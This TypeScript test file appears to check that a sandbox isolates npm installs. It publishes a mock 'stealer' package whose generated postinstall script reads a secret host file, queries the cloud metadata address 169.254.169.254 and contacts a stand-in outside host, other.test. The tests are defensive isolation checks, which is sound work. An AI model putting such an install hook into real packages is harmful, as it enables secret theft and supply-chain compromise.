/**
 * The attack: a package whose postinstall script reads the host, asks a metadata service and sends what it has to a host of its
 * author's. A regression would show as the host's words in node_modules, or as a connection at the far side.
 */
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { dirname, join } from 'node:path'
import { testFolder } from '../support/checkout.js'
import { USERS } from '../support/users.js'
import { OTHER, PUBLIC, reachedOf, sitesOf } from './sites.js'
import { control, NODE_FLAGS, online, runOnline, SECRET, usage, withPrograms } from './tools.js'

const NPM = join(dirname(process.execPath), 'npm')
const NEEDS = [NPM]
const { folder: sites, ca, secret, internet, put } = sitesOf(['registry.npmjs.org'])
const flags = ['--input', `${ca}:ca.pem`, '--env', 'npm_config_cafile=/job/ca.pem', ...NODE_FLAGS]
publish('left-pad', {}, { 'index.js': 'module.exports = (text, width) => String(text).padStart(width)\n' })
publish('stealer', { postinstall: 'node steal.js' }, { 'steal.js': steal(secret) })

withPrograms(NEEDS, 'npm: a package of the registry is installed, and can be required', async (user, t) => {
  const folder = testFolder(t, 0o777)
  const got = await runOnline(user, usage('npm-install'), { folder, flags, ...internet })
  assert.equal(got.status, 0, got.stderr)
  const leftPad = createRequire(join(folder, 'any.js'))('left-pad')
  assert.equal(leftPad('a', 3), '  a')
  assert.deepEqual(reachedOf(got.seen), [PUBLIC])
})

withPrograms(
  NEEDS,
  'npm: a postinstall script finds no file of the host, no metadata and no other host',
  async (user, t) => {
    const folder = testFolder(t, 0o777)
    const args = [...usage('npm-install').slice(0, -1), 'stealer']
    const { status, stderr, seen } = await runOnline(user, args, { folder, flags, ...internet })
    assert.equal(status, 0, stderr)
    const stolen = readFileSync(join(folder, 'node_modules/stealer/stolen'), 'utf8')
    assert.match(stolen, /^file: ENOENT$/m)
    assert.match(stolen, /^metadata: (?!reached)/m)
    assert.match(stolen, /^other: (?!reached)/m)
    assert.deepEqual(reachedOf(seen), [PUBLIC])
  },
)

control(NEEDS, 'npm: the script reads the file, asks the metadata service and its author', async (t) => {
  const [self] = USERS
  assert.ok(self)
  const folder = testFolder(t, 0o777)
  writeFileSync(join(folder, 'package.json'), '{}') // or npm looks for one in the folders above
  const settings = {
    cafile: ca,
    cache: join(folder, 'cache'),
    audit: 'false',
    userconfig: '/dev/null',
    globalconfig: join(folder, 'none'),
    registry: 'https://registry.npmjs.org/',
    update_notifier: 'false',
  }
  const env = {
    ...internet.env,
    ...Object.fromEntries(Object.entries(settings).map(([name, value]) => [`npm_config_${name}`, value])),
  }
  const { status, stderr, seen } = await online(self, [NPM, 'install', '--no-save', 'stealer'], {
    folder,
    ...internet,
    env,
  })
  assert.equal(status, 0, stderr)
  const stolen = readFileSync(join(folder, 'node_modules/stealer/stolen'), 'utf8')
  assert.match(stolen, new RegExp(`^file: reached ${SECRET}$`, 'm'), stderr)
  assert.deepEqual(reachedOf(seen), ['169.254.169.254', PUBLIC, OTHER].sort())
})

/** Package and its one version, as the registry serves them. */
function publish(name: string, scripts: object, files: Readonly<Record<string, string>>): void {
  const folder = join(sites, name, 'package')
  mkdirSync(folder, { recursive: true })
  const manifest = { name, version: '1.0.0', scripts }
  for (const [file, text] of Object.entries({ ...files, 'package.json': JSON.stringify(manifest) }))
    writeFileSync(join(folder, file), text)
  const tarball = put(`registry.npmjs.org/${name}/-/${name}-1.0.0.tgz`, '')
  execFileSync('tar', ['-czf', tarball, '-C', dirname(folder), 'package'])
  const integrity = `sha512-${createHash('sha512').update(readFileSync(tarball)).digest('base64')}`
  const dist = { tarball: `https://registry.npmjs.org/${name}/-/${name}-1.0.0.tgz`, integrity }
  const hasInstallScript = Object.keys(scripts).length > 0
  const versions = { '1.0.0': { ...manifest, hasInstallScript, dist } }
  put(`registry.npmjs.org/${name}.json`, JSON.stringify({ name, 'dist-tags': { latest: '1.0.0' }, versions }))
}

function steal(file: string): string {
  return `const { appendFileSync, readFileSync } = require('fs')
async function attempt(name, what) {
  try { appendFileSync('stolen', name + ': reached ' + await what() + '\\n') }
  catch (error) { appendFileSync('stolen', name + ': ' + (error.cause?.code ?? error.code ?? error) + '\\n') }
}
const ask = (url) => new Promise((resolve, reject) => {
  require('http').get(url, { timeout: 5000 }, (answer) => resolve(answer.resume().statusCode))
    .on('timeout', function () { this.destroy(new Error('timeout')) }).on('error', reject)
})
attempt('file', () => readFileSync('${file}', 'utf8').trim())
  .then(() => attempt('metadata', () => ask('http://169.254.169.254/latest/')))
  .then(() => attempt('other', () => ask('http://other.test/took')))
`
}
